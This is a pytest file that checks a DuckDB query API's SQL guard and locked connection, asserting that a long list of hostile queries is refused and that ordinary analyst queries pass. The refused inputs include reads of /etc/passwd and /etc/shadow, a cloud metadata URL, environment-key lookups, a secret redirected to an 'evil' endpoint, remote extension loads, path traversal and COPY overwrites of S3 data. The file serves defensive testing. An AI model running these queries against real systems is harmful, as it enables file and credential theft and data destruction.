"""The query API's SQL guard and its locked-down DuckDB connection.

Every hole listed in delivery-notes.md ("A server-side SQL endpoint over DuckDB") is tried
here and shown closed: the guard refuses it before anything runs, and the connection layer
(exact ``allowed_paths``, external access off, configuration locked) refuses file tricks
on its own, on the local folder and on S3 (a real SeaweedFS).
"""

from __future__ import annotations

import io
import time

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from catalogue.query import QueryLimits, QueryTimeout, open_locked, stream_query
from catalogue.registry import PublishedTable
from catalogue.sql_guard import (
    DENIED_FUNCTIONS,
    TABLE_FUNCTIONS,
    SqlRejected,
    check_select,
    system_relations,
)

VIEWS = {
    ("transport", "bus_gps"),
    ("transport", "cairns_gtfs__stops"),
    ("urban_management", "cases"),
}


def rejected(sql: str, views=VIEWS) -> SqlRejected:
    with pytest.raises(SqlRejected) as e:
        check_select(sql, views)
    assert e.value.status == 400
    return e.value


# -- every hole of delivery-notes.md, and its relatives ----------------------------------------
HOLES = [
    # writes: COPY TO an allowed S3 path overwrote a dataset; EXPLAIN ANALYZE runs it
    ("COPY (SELECT 1 AS x) TO 's3://bucket/nsdx/bus/v1/part-0.parquet'", "statement_type"),
    ("COPY transport.bus_gps TO '/tmp/out.csv'", "statement_type"),
    ("EXPLAIN ANALYZE COPY (SELECT 1) TO '/tmp/x.parquet'", "statement_type"),
    ("EXPLAIN SELECT 1", "statement_type"),
    ("EXPORT DATABASE '/tmp/dump'", "statement_type"),
    # secrets: CREATE SECRET after the lock redirected every view
    (
        "CREATE SECRET evil (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT 'evil:9000')",
        "statement_type",
    ),
    ("CREATE OR REPLACE TEMPORARY SECRET nsdx_query (TYPE s3)", "statement_type"),
    ("DROP SECRET nsdx_query", "statement_type"),
    ("SELECT * FROM duckdb_secrets()", "table_function"),
    ("SELECT * FROM which_secret('s3://bucket/x', 's3')", "table_function"),
    ("CALL duckdb_secrets()", "statement_type"),
    # catalogue changes
    ("DROP VIEW transport.bus_gps", "statement_type"),
    ("CREATE TABLE t AS SELECT 1", "statement_type"),
    ("CREATE VIEW transport.bus_gps AS SELECT 1", "statement_type"),
    ("CREATE MACRO m(a) AS a + 1", "statement_type"),
    ("CREATE MACRO t() AS TABLE SELECT 1", "statement_type"),
    ("INSERT INTO transport.bus_gps VALUES (1)", "statement_type"),
    ("UPDATE transport.bus_gps SET x = 1", "statement_type"),
    ("DELETE FROM transport.bus_gps", "statement_type"),
    ("ALTER VIEW transport.bus_gps RENAME TO x", "statement_type"),
    ("ATTACH ':memory:' AS m", "statement_type"),
    ("ATTACH '/tmp/other.duckdb' AS o", "statement_type"),
    ("DETACH m", "statement_type"),
    ("USE m", "statement_type"),
    # logging: enable_logging(storage='file') ignored the lock and could crash the process
    ("SELECT * FROM enable_logging(storage='file', storage_path='/tmp/log')", "table_function"),
    ("SELECT * FROM enable_logging()", "table_function"),
    ("SELECT * FROM duckdb_logs", "table"),
    ("SELECT write_log('x')", "function"),
    # files and URLs
    ("SELECT * FROM read_parquet('/etc/passwd')", "table_function"),
    ("SELECT * FROM read_csv('/etc/passwd')", "table_function"),
    ("SELECT * FROM read_csv_auto('/etc/passwd')", "table_function"),
    ("SELECT * FROM read_text('/etc/passwd')", "table_function"),
    ("SELECT * FROM read_blob('/etc/shadow')", "table_function"),
    ("SELECT * FROM read_json('http://169.254.169.254/latest/meta-data/')", "table_function"),
    ("SELECT * FROM parquet_metadata('s3://bucket/x.parquet')", "table_function"),
    ("SELECT * FROM glob('/home/*')", "table_function"),
    ("SELECT * FROM read_parquet('s3://bucket/ok/../other/part-0.parquet')", "table_function"),
    ("SELECT * FROM 's3://bucket/ok/../other/part-0.parquet'", "table"),
    ("SELECT * FROM '/etc/passwd'", "table"),
    ("FROM 'https://example.org/x.csv'", "table"),
    ('SELECT * FROM "data.parquet"', "table"),
    ("SELECT (SELECT count(*) FROM read_text('/etc/passwd'))", "table_function"),
    (
        "SELECT * FROM transport.bus_gps WHERE x IN (SELECT * FROM read_csv('/etc/hosts'))",
        "table_function",
    ),  # fmt: skip
    ("WITH f AS (SELECT * FROM read_parquet('/x.parquet')) SELECT * FROM f", "table_function"),
    # SQL run from strings
    ("SELECT * FROM query('COPY (SELECT 1) TO ''/tmp/x''')", "table_function"),
    ("SELECT * FROM query_table('transport.bus_gps')", "table_function"),
    ("SELECT * FROM json_execute_serialized_sql('{}')", "table_function"),
    # several statements
    ("SELECT 1; SELECT 2", "one_statement"),
    ("SELECT * FROM transport.bus_gps; DROP VIEW transport.bus_gps", "one_statement"),
    ("SELECT 1; COPY (SELECT 1) TO '/tmp/x'", "one_statement"),
    ("PIVOT transport.bus_gps ON route USING count(*)", "one_statement"),
    # settings and pragmas
    ("PRAGMA version", "statement_type"),
    ("PRAGMA enable_profiling", "statement_type"),
    ("SELECT * FROM pragma_version()", "table_function"),
    ("SET enable_external_access = true", "statement_type"),
    ("SET GLOBAL allowed_paths = ['/']", "statement_type"),
    ("RESET lock_configuration", "statement_type"),
    ("SELECT current_setting('allowed_paths')", "function"),
    ("SELECT main.current_setting('s3_secret_access_key')", "function"),
    ("SELECT * FROM duckdb_settings()", "table_function"),
    ("SELECT getenv('AWS_SECRET_ACCESS_KEY')", "function"),
    # extensions
    ("INSTALL httpfs", "statement_type"),
    ("LOAD httpfs", "statement_type"),
    ("LOAD '/tmp/evil.duckdb_extension'", "statement_type"),
    ("FORCE INSTALL spatial FROM 'http://evil'", "statement_type"),
    # the engine's own catalog
    ("SELECT * FROM information_schema.tables", "table"),
    ("SELECT * FROM duckdb_views()", "table_function"),
    ("SELECT * FROM duckdb_views", "table"),
    ("SELECT * FROM system.main.duckdb_tables", "table"),
    ("SELECT * FROM pg_catalog.pg_settings", "table"),
    ("SELECT * FROM main.anything", "table"),
    ("SHOW TABLES", "show"),
    ("SHOW ALL TABLES", "show"),
    ("SUMMARIZE transport.bus_gps", None),  # allowed below; placeholder removed at runtime
    ("WITH duckdb_views AS (SELECT 1) SELECT * FROM duckdb_views", "cte_name"),
    # other statements
    ("CHECKPOINT", "statement_type"),
    ("VACUUM", "statement_type"),
    ("BEGIN TRANSACTION", "statement_type"),
    ("PREPARE p AS SELECT 1", "statement_type"),
    ("SELECT sleep_ms(100000)", "function"),
    # built-in macros over a denied function or a table (issue 15: pg_sleep got round it)
    ("SELECT pg_sleep(8)", "function"),
    ("SELECT PG_SLEEP(8)", "function"),
    ("SELECT x FROM range(1) t(x) WHERE pg_sleep(8) IS NULL", "function"),
    ("SELECT format_type(1, 1)", "function"),
    ("SELECT current_query()", "function"),
    # unknown names and bad input
    ("SELECT * FROM transport.no_such_view", "table"),
    ("SELECT * FROM bus_gps", "table"),
    ("SELECT * FROM other_catalog.transport.bus_gps", "table"),
    ("SELEC 1", "syntax"),
    ("   ", "empty"),
    ("-- only a comment", "one_statement"),
]
HOLES = [h for h in HOLES if h[1] is not None]


@pytest.mark.parametrize(("sql", "rule"), HOLES, ids=[h[0][:60] for h in HOLES])
def test_hole_is_rejected(sql, rule):
    e = rejected(sql)
    assert e.rule == rule, (e.rule, e.message)
    assert e.message and e.to_dict()["error"] == "SqlRejected"


def test_rejections_say_what_and_why():
    e = rejected("COPY (SELECT 1) TO '/tmp/x'")
    assert "only SELECT statements are allowed, not COPY" in e.message
    e = rejected("SELECT * FROM read_parquet('/etc/passwd')")
    assert "table function 'read_parquet' is not allowed" in e.message
    assert "range" in e.hint and e.to_dict()["function"] == "read_parquet"
    e = rejected("SELECT * FROM transport.bus_gpz")
    assert "no published view 'transport.bus_gpz'" in e.message and "<domain>.<id>" in e.hint
    e = rejected("SELECT 1; SELECT 2")
    assert "exactly one statement" in e.message


def test_too_long():
    assert rejected("SELECT 1" + " " * 100_000).rule == "too_long"


# -- what analysts write -----------------------------------------------------------------------
ACCEPTED = [
    ("SELECT * FROM transport.bus_gps", {("transport", "bus_gps")}),
    ("FROM transport.bus_gps SELECT route LIMIT 5", {("transport", "bus_gps")}),
    ("SELECT * FROM TRANSPORT.Bus_GPS;", {("transport", "bus_gps")}),
    ('SELECT * FROM "transport"."bus_gps"', {("transport", "bus_gps")}),
    (
        "WITH per_route AS (SELECT route, avg(speed_kmh) AS v FROM transport.bus_gps GROUP BY route),"
        " top AS (SELECT * FROM per_route ORDER BY v DESC LIMIT 3) SELECT * FROM top",
        {("transport", "bus_gps")},
    ),
    (
        "SELECT b.route, count(*) FROM transport.bus_gps b JOIN urban_management.cases c "
        "ON c.route = b.route LEFT JOIN transport.cairns_gtfs__stops s ON s.stop_id = b.stop "
        "GROUP BY ALL ORDER BY 2 DESC",
        VIEWS,
    ),
    (
        "SELECT route, ts, speed_kmh, avg(speed_kmh) OVER (PARTITION BY route ORDER BY ts "
        "ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) AS smooth, row_number() OVER w AS n, "
        "lag(speed_kmh) OVER w FROM transport.bus_gps WINDOW w AS (PARTITION BY route ORDER BY ts)"
        " QUALIFY n <= 10",
        {("transport", "bus_gps")},
    ),
    (
        "SELECT route, count(*), count(DISTINCT plate), min(ts), max(ts), "
        "quantile_cont(speed_kmh, 0.5), sum(occupancy) FILTER (WHERE occupancy > 0), "
        "list(DISTINCT route) FROM transport.bus_gps GROUP BY ROLLUP (route) HAVING count(*) > 1",
        {("transport", "bus_gps")},
    ),
    (
        "SELECT * FROM transport.bus_gps WHERE route IN (SELECT route FROM urban_management.cases)"
        " UNION ALL SELECT * FROM transport.bus_gps WHERE EXISTS (SELECT 1)",
        {("transport", "bus_gps"), ("urban_management", "cases")},
    ),
    (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) "
        "SELECT sum(n) FROM r",
        set(),
    ),  # fmt: skip
    ("SELECT * FROM range(10) r, generate_series(1, 3) g, unnest([1, 2]) u", set()),
    ("SELECT * FROM (VALUES (1, 'a'), (2, 'b')) v(id, name)", set()),
    (
        "SELECT date_trunc('hour', ts) AS h, CAST(speed_kmh AS INT)::VARCHAR, "
        "ts AT TIME ZONE 'Asia/Shanghai', strftime(ts, '%Y-%m-%d'), [1,2,3][2], "
        "{'a': 1}.a, list_transform([1, 2], x -> x * 2), regexp_matches(route, '南沙'), "
        "CASE WHEN speed_kmh > 60 THEN 'fast' ELSE 'slow' END FROM transport.bus_gps",
        VIEWS & {("transport", "bus_gps")},
    ),  # fmt: skip
    (
        "SELECT * FROM transport.bus_gps PIVOT (count(*) FOR route IN ('a', 'b'))",
        {("transport", "bus_gps")},
    ),  # fmt: skip
    ("SELECT * FROM transport.bus_gps USING SAMPLE 10%", {("transport", "bus_gps")}),
    ("DESCRIBE transport.bus_gps", {("transport", "bus_gps")}),
    ("SUMMARIZE SELECT speed_kmh FROM transport.bus_gps", {("transport", "bus_gps")}),
    (
        "SELECT * FROM transport.bus_gps a ASOF JOIN transport.bus_gps b ON a.ts >= b.ts",
        {("transport", "bus_gps")},
    ),  # fmt: skip
    (
        "SELECT * FROM transport.bus_gps t, LATERAL (SELECT t.speed_kmh * 2) l",
        {("transport", "bus_gps")},
    ),  # fmt: skip
]


@pytest.mark.parametrize(("sql", "views"), ACCEPTED, ids=[a[0][:60] for a in ACCEPTED])
def test_legitimate_query_is_accepted(sql, views):
    checked = check_select(sql, VIEWS)
    assert checked.views == views
    assert checked.sql == sql


def test_a_cte_shadowing_a_view_name_only_works_unqualified():
    # `bus_gps` the CTE is fine; `transport.bus_gps` is always the view
    c = check_select(
        "WITH bus_gps AS (SELECT 1 AS x) SELECT * FROM bus_gps, transport.bus_gps", VIEWS
    )
    assert c.views == {("transport", "bus_gps")}
    # a CTE name does not leak out of its subquery
    assert rejected("SELECT * FROM (WITH a AS (SELECT 1) SELECT * FROM a), a").rule == "table"


def test_the_lists_are_short_and_read_nothing():
    assert TABLE_FUNCTIONS == {"range", "generate_series", "unnest"}
    assert {"current_setting", "getenv", "write_log"} <= DENIED_FUNCTIONS
    assert {"duckdb_views", "duckdb_logs", "tables"} <= system_relations()


def test_built_in_macros_are_judged_by_what_they_call():
    """The engine's macros are read from its catalogue: the ones reaching a denied function
    or a table are refused, ordinary ones (list and date helpers) stay allowed."""
    from catalogue.sql_guard import denied_macros

    assert {"pg_sleep", "format_type", "current_query"} <= denied_macros()
    assert not {"array_append", "list_sum", "date_part"} & denied_macros()
    check_select("SELECT array_append([1], 2), list_sum([1, 2]), date_part('year', now())")


def test_without_a_view_list_existence_is_not_checked():
    assert check_select("SELECT * FROM anything.here", None).views == {("anything", "here")}
    assert rejected("SELECT * FROM information_schema.tables", None).rule == "table"


# -- the connection layer: exact allowed_paths, no external access, locked -----------------------
def _parquet(tbl: pa.Table) -> bytes:
    buf = io.BytesIO()
    pq.write_table(tbl, buf)
    return buf.getvalue()


@pytest.fixture
def published(store):
    """Two 'datasets' in ``store``: ok/ (the view) and other/ (not for this query)."""
    store.put_bytes("ok/v1/part-0.parquet", _parquet(pa.table({"x": list(range(100))})))
    store.put_bytes("other/v1/part-0.parquet", _parquet(pa.table({"secret": ["s3cr3t"]})))
    t = PublishedTable("ok", "transport", None, ("ok/v1/part-0.parquet",), "open", "org")
    return store, t


@pytest.fixture
def locked(published, tmp_path):
    yield from _locked(published, tmp_path)


@pytest.fixture
def locked_local(tmp_path):
    """The local case alone, for what does not depend on the backend."""
    from ingest.storage.local import LocalStore

    store = LocalStore(tmp_path / "objects")
    store.put_bytes("ok/v1/part-0.parquet", _parquet(pa.table({"x": list(range(100))})))
    t = PublishedTable("ok", "transport", None, ("ok/v1/part-0.parquet",), "open", "org")
    yield from _locked((store, t), tmp_path)


def _locked(published, tmp_path):
    store, t = published
    con = open_locked(
        store, [t], QueryLimits(threads=1, memory_limit="256MB"), temp_dir=tmp_path / "duck"
    )
    yield store, con
    con.close()


def test_locked_connection_reads_its_view(locked):
    _, con = locked
    assert con.execute("SELECT count(*), sum(x) FROM transport.ok").fetchone() == (100, 4950)
    settings = dict(
        con.execute(
            "SELECT name, value FROM duckdb_settings() WHERE name IN ('enable_external_access',"
            "'lock_configuration','autoinstall_known_extensions','autoload_known_extensions',"
            "'allow_persistent_secrets','threads','python_enable_replacements')"
        ).fetchall()
    )
    assert settings == {
        "enable_external_access": "false",
        "lock_configuration": "true",
        "autoinstall_known_extensions": "false",
        "autoload_known_extensions": "false",
        "allow_persistent_secrets": "false",
        "threads": "1",
        "python_enable_replacements": "false",
    }


def test_path_tricks_fail_on_the_connection_itself(locked):
    """Even if a statement got past the guard, the connection opens exactly the view's
    files: `..` tricks (which fool prefix-based allowed_directories) and other datasets'
    files are refused, on the local folder and on S3."""
    store, con = locked
    ok, other = store.uri("ok/v1/part-0.parquet"), store.uri("other/v1/part-0.parquet")
    trick = ok.replace("/ok/v1/part-0.parquet", "/ok/v1/../../other/v1/part-0.parquet")
    assert trick != ok and "/ok/" in trick
    for path in (trick, other, "/etc/passwd"):
        with pytest.raises(duckdb.PermissionException):
            con.execute(f"SELECT * FROM read_parquet('{path}')").fetchall()
    with pytest.raises(duckdb.PermissionException):
        con.execute(f"SELECT * FROM '{other}'").fetchall()


def test_temp_directory_must_not_hold_published_files(tmp_path):
    """DuckDB lets a connection read its temp_directory even with external access off."""
    from catalogue.errors import QueryError
    from ingest.storage.local import LocalStore

    store = LocalStore(tmp_path / "objects")
    store.put_bytes("ok/v1/part-0.parquet", _parquet(pa.table({"x": [1]})))
    t = PublishedTable("ok", "transport", None, ("ok/v1/part-0.parquet",), "open", "org")
    with pytest.raises(QueryError, match="temp directory"):
        open_locked(store, [t], QueryLimits(), temp_dir=tmp_path)


def test_configuration_cannot_be_changed(locked_local):
    _, con = locked_local
    for stmt in (
        "SET enable_external_access = true",
        "SET GLOBAL allowed_paths = ['/']",
        "SET memory_limit = '100GB'",
        "SET lock_configuration = false",
        "SET autoload_known_extensions = true",
    ):
        with pytest.raises(duckdb.Error, match="locked"):
            con.execute(stmt)


@pytest.mark.s3
def test_on_s3_settings_alone_leave_copy_open_and_the_guard_closes_it(s3_store, tmp_path):
    """Why the guard exists: on a locked connection COPY TO an allowed S3 path still
    overwrites the dataset (delivery-notes.md). The same statement never reaches a
    connection through the guard."""
    s3_store.put_bytes("ok/v1/part-0.parquet", _parquet(pa.table({"x": list(range(100))})))
    t = PublishedTable("ok", "transport", None, ("ok/v1/part-0.parquet",), "open", "org")
    uri = s3_store.uri("ok/v1/part-0.parquet")
    copy = f"COPY (SELECT 42 AS x) TO '{uri}' (FORMAT parquet, USE_TMP_FILE false)"
    e = rejected(copy, {("transport", "ok")})
    assert e.rule == "statement_type"
    con = open_locked(s3_store, [t], QueryLimits(), temp_dir=tmp_path / "duck")
    try:
        assert con.execute("SELECT count(*) FROM transport.ok").fetchone() == (100,)
        secrets = con.execute("SELECT secret_string FROM duckdb_secrets()").fetchall()
        assert "key_id=" in secrets[0][0]  # what duckdb_secrets() would leak: refused above
        assert rejected("SELECT * FROM duckdb_secrets()").rule == "table_function"
    finally:
        con.close()


# -- limits --------------------------------------------------------------------------------------
def test_row_cap_streams_and_stops(locked_local):
    store, con = locked_local
    t0 = time.monotonic()
    tbl, truncated = stream_query(
        con, "SELECT * FROM range(1000000000)", max_rows=25, max_bytes=1 << 30, timeout=10,
        store=store,
    )  # fmt: skip
    assert tbl.num_rows == 25 and truncated is True
    assert time.monotonic() - t0 < 5  # a billion rows were never produced
    tbl, truncated = stream_query(
        con, "SELECT * FROM transport.ok", max_rows=100, max_bytes=1 << 30, timeout=10, store=store
    )
    assert tbl.num_rows == 100 and truncated is False


def test_byte_cap_truncates(locked_local):
    store, con = locked_local
    tbl, truncated = stream_query(
        con, "SELECT repeat('x', 1000) AS s FROM range(100000)", max_rows=100000,
        max_bytes=200_000, timeout=10, store=store,
    )  # fmt: skip
    assert truncated is True and 0 < tbl.num_rows < 1000


def test_timeout_interrupts_a_cpu_bound_query(locked_local):
    store, con = locked_local
    t0 = time.monotonic()
    with pytest.raises(QueryTimeout, match="time limit"):
        stream_query(
            con,
            "SELECT sum(hash(range)) FROM range(1000000000000)",  # long, constant memory
            max_rows=10, max_bytes=1 << 20, timeout=0.5, store=store,
        )  # fmt: skip
    assert time.monotonic() - t0 < 5
